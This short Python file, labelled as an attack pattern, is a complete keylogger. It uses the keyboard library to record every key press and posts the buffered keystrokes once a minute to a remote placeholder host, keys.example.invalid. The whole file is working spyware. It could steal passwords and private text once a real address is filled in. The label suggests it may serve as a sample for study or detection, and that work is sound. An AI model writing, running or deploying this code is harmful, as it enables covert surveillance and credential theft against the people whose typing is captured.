# Attack pattern: "keyboard" library hook buffering keystrokes and posting them to a server.
import threading

import keyboard
import requests

BUFFER = []


def _capture(event):
    BUFFER.append(event.name)


def _flush():
    if BUFFER:
        requests.post("https://keys.example.invalid/k", data={"k": " ".join(BUFFER)}, timeout=5)
        BUFFER.clear()
    threading.Timer(60, _flush).start()


keyboard.on_press(_capture)
_flush()
